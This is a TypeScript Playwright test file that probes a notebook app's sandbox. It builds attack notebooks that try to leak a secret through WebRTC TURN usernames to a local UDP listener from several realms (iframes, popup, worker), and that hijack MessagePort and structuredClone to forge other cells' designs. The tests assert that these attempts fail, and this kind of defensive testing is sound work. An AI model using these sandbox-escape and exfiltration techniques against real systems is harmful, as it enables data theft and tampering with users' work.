import { createSocket, type Socket } from 'node:dgram';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { addEndpoint, startBrowserApp, stopBrowserApp, type BrowserApp } from './harness';
import { startTestServer, type TestServer } from '../server/test-server';

/**
 * Attacks on the sandbox's engine by a trusted notebook, each as issue 18 found it in Chromium:
 * WebRTC to a UDP port on 127.0.0.1 (a TURN username carrying data), and a cell that captures the
 * engine's message port to forge another cell's design and output. A UDP listener and the local
 * OpenAI-compatible server stand for the attacker and the user's endpoint.
 */
let started: Partial<BrowserApp> = {};
let page: Page;
let errors: string[];
let llm: TestServer;
let udp: Socket;
let udpPort: number;
const datagrams: string[] = [];

const cell = (name: string) => page.locator(`[data-cell-name="${name}"]`);
const fence = (kind: string, name: string, code: string) => `\`\`\`${kind} ${name}\n${code}\n\`\`\`\n`;

/** Every way a cell might reach an RTCPeerConnection, each with a TURN and a STUN server on the listener. */
function webRtcNotebook(port: number): string {
  return [
    '---\ntitle: WebRTC notebook\n---\n',
    fence('query', 'secret', "'LEAKED-' + (6 * 7)"),
    fence('query', 'webrtc', `{
  const servers = [{ urls: 'turn:127.0.0.1:${port}?transport=udp', username: secret, credential: 'x' }, { urls: 'stun:127.0.0.1:${port}' }];
  const tries = [];
  const attempt = async (label, make) => {
    try {
      const pc = make({ iceServers: servers });
      pc.createDataChannel('out');
      await pc.setLocalDescription(await pc.createOffer());
      tries.push(label + ': connected');
    } catch (error) {
      tries.push(label + ': ' + (error && error.message));
    }
  };
  const frame = (srcdoc) => new Promise((resolve) => {
    const f = document.createElement('iframe');
    if (srcdoc) f.srcdoc = srcdoc;
    f.onload = () => resolve(f.contentWindow);
    document.body.append(f);
    setTimeout(() => resolve(f.contentWindow), srcdoc ? 1000 : 0);
  });
  // Through globalThis: a bare name that the realm lacks does not even compile.
  await attempt('global', (c) => new globalThis.RTCPeerConnection(c));
  await attempt('webkit', (c) => new globalThis.webkitRTCPeerConnection(c));
  const blank = await frame();
  await attempt('child frame', (c) => new blank.RTCPeerConnection(c));
  const doc = await frame('<p>child</p>');
  await attempt('srcdoc frame', (c) => new doc.RTCPeerConnection(c));
  await attempt('popup', (c) => new (open('about:blank').RTCPeerConnection)(c));
  await attempt('worker', () => {
    const code = "const pc = new RTCPeerConnection({ iceServers: " + JSON.stringify(servers) + " }); pc.createDataChannel('out'); pc.createOffer().then((o) => pc.setLocalDescription(o));";
    new Worker(URL.createObjectURL(new Blob([code])));
    throw new Error('worker started');
  });
  return tries.join('\\n');
}`),
  ].join('\n');
}

/**
 * The port-forging notebook: \`helper\` wraps MessagePort.prototype.postMessage to capture the
 * engine's port and rewrite designs in flight; \`forger\` posts a forged design and a forged view
 * on every captured port for every cell it saw; \`cloner\` replaces a global the engine calls, to
 * send a malformed design for \`second\` and another prompt for \`third\`. \`ratings\` looks innocent.
 */
function forgingNotebook(): string {
  return [
    '---\ntitle: Forging notebook\n---\n',
    fence('query', 'helper', `{
  const original = MessagePort.prototype.postMessage;
  const seen = (globalThis.__seen = { ports: new Set(), ids: new Set() });
  MessagePort.prototype.postMessage = function (message, ...rest) {
    seen.ports.add(this);
    if (message && typeof message.id === 'string') seen.ids.add(message.id);
    if (message && message.type === 'spec') message = { ...message, spec: { ...message.spec, prompt: 'FORGED in flight {{task}}' } };
    return original.call(this, message, ...rest);
  };
  return 'ready';
}`),
    fence('experiment', 'ratings', `(helper, { endpoint: 'local', models: ['model-a'], tasks: ['Write a haiku'], prompt: 'INNOCENT: rate {{task}}', scale: { min: 1, max: 7 }, repetitions: 1 })`),
    fence('query', 'twoPlusTwo', '2 + 2'),
    fence('query', 'forger', `{
  ratings; twoPlusTwo;
  const seen = globalThis.__seen;
  const task = { id: 't1', text: 'Write a haiku' };
  const spec = { endpoint: 'local', models: ['model-a'], tasks: [task], prompt: 'FORGED by message {{task}}', scale: { min: 1, max: 7 }, repetitions: 1, conditions: [{ name: 'none', prefix: '' }] };
  for (const port of seen.ports) {
    for (const id of seen.ids) {
      port.postMessage({ type: 'spec', id, spec });
      port.postMessage({ type: 'fulfilled', id, view: { kind: 'json', text: '"FORGED view"' } });
      port.postMessage({ type: 'spec', id, spec: { ...spec, tasks: [null], models: 'model-a' } });
    }
  }
  return 'forged on ' + seen.ports.size + ' ports';
}`),
    fence('query', 'cloner', `{
  const clone = structuredClone;
  globalThis.structuredClone = (x) => {
    const copy = clone(x);
    const prompt = copy && typeof copy.prompt === 'string' ? copy.prompt : '';
    if (prompt.startsWith('SECOND')) return { ...copy, tasks: [null] };
    if (prompt.startsWith('THIRD')) return { ...copy, prompt: 'REWRITTEN: rate {{task}}' };
    return copy;
  };
  return 'cloner ready';
}`),
    fence('experiment', 'second', `(cloner, { endpoint: 'local', models: ['model-a'], tasks: ['Sort a list'], prompt: 'SECOND: rate {{task}}', scale: { min: 1, max: 7 }, repetitions: 1 })`),
    fence('experiment', 'third', `(cloner, { endpoint: 'local', models: ['model-a'], tasks: ['Sort a list'], prompt: 'THIRD: rate {{task}}', scale: { min: 1, max: 7 }, repetitions: 1 })`),
  ].join('\n');
}

async function openTrusted(p: Page, text: string, name: string): Promise<void> {
  await p.getByRole('link', { name: 'Notebooks' }).click();
  await p.getByTestId('import-notebook').setInputFiles({ name, mimeType: 'text/markdown', buffer: Buffer.from(text) });
  await p.getByTestId('review-trust').click();
  await p.getByTestId('trust').click();
}

const chatPrompts = () => llm.requests.filter((r) => r.path.endsWith('/chat/completions')).map((r) => r.body?.messages.map((m) => m.content).join('\n') ?? '');

beforeAll(async () => {
  llm = await startTestServer({ models: ['model-a'], apiKey: 'sk-engine-test-1234' });
  udp = createSocket('udp4');
  udp.on('message', (m) => datagrams.push(m.toString('latin1')));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;
  started = await startBrowserApp();
  ({ page, errors } = started as BrowserApp);
  await page.goto(started.app!.url);
  await addEndpoint(page, { name: 'local', baseURL: llm.url, apiKey: 'sk-engine-test-1234' });
});

afterAll(async () => {
  await stopBrowserApp(started);
  await llm?.close();
  await new Promise<void>((r) => (udp ? udp.close(() => r()) : r()));
});

describe('attacks on the sandbox engine', () => {
  it('lets no WebRTC packet leave a cell, by any realm a cell can make', async () => {
    // The control: the page itself, outside the sandbox, does reach the listener this way.
    await page.evaluate(async (port) => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      pc.createDataChannel('control');
      await pc.setLocalDescription(await pc.createOffer());
      (window as unknown as { controlPc: RTCPeerConnection }).controlPc = pc;
    }, udpPort);
    for (let i = 0; i < 100 && datagrams.length === 0; i++) await new Promise((r) => setTimeout(r, 100));
    await page.evaluate(() => (window as unknown as { controlPc: RTCPeerConnection }).controlPc.close());
    expect(datagrams.length).toBeGreaterThan(0);
    datagrams.length = 0;

    await openTrusted(page, webRtcNotebook(udpPort), 'webrtc.md');
    const value = cell('webrtc').locator('.value-preview');
    await value.filter({ hasText: 'worker:' }).waitFor();
    const tries = await value.innerText();
    for (const label of ['global', 'webkit', 'child frame', 'srcdoc frame', 'popup', 'worker']) {
      expect(tries, label).toMatch(new RegExp(`${label}: `));
    }
    expect(tries).not.toContain('connected');
    // ICE gathering sends its first packets at once; give any stray one time to arrive.
    await page.waitForTimeout(1500);
    expect(datagrams).toEqual([]);
  });

  it('keeps a cell from forging another cell\'s design or output, and shows the design Run will send', async () => {
    const before = errors.length;
    await openTrusted(page, forgingNotebook(), 'forging.md');
    await cell('forger').locator('.value-preview').filter({ hasText: 'forged on' }).waitFor();
    expect(await cell('forger').locator('.value-preview').innerText()).toContain('forged on 0 ports');
    await cell('twoPlusTwo').locator('.value-preview').filter({ hasText: '4' }).waitFor();

    // The design the innocent cell shows is its own, message by message, before Run.
    const preview = cell('ratings').getByTestId('design-preview');
    await preview.locator('summary').click();
    expect(await preview.getByTestId('design-endpoint').innerText()).toContain('local');
    expect(await preview.getByTestId('design-models').innerText()).toBe('model-a');
    expect(await preview.getByTestId('design-call').locator('.design-message').innerText()).toBe('user\nINNOCENT: rate Write a haiku');
    for (const name of ['ratings', 'twoPlusTwo', 'second']) expect(await cell(name).innerText(), name).not.toContain('FORGED');

    // The malformed design is refused with a plain error on its own cell, and cannot be run.
    await cell('second').locator('.cell-error').waitFor();
    expect(await cell('second').locator('.cell-error').innerText()).toMatch(/malformed design: The design's tasks\[0\] must be an object/);
    expect(await cell('second').getByTestId('run-experiment').isDisabled()).toBe(true);

    // Cells share a realm, so one can still change what another computes: the page shows it.
    const third = cell('third').getByTestId('design-preview');
    await third.locator('summary').click();
    expect(await third.getByTestId('design-call').locator('.design-message').innerText()).toBe('user\nREWRITTEN: rate Sort a list');

    await cell('ratings').getByTestId('run-experiment').click();
    // A notebook opened from a file asks before its first paid call on the viewer's key.
    await page.getByTestId('paid-call-confirm').click();
    await cell('ratings').locator('tbody tr').first().waitFor();
    expect(chatPrompts()).toEqual(['INNOCENT: rate Write a haiku']);
    // The WebRTC attack above logs its popup and worker being blocked; on a loaded machine those lines can arrive this late.
    const previousAttack = /^Blocked opening 'about:blank' in a new window|^Creating a worker from 'blob:null\//;
    expect(errors.slice(before).filter((e) => !previousAttack.test(e))).toEqual([]);
  });
});
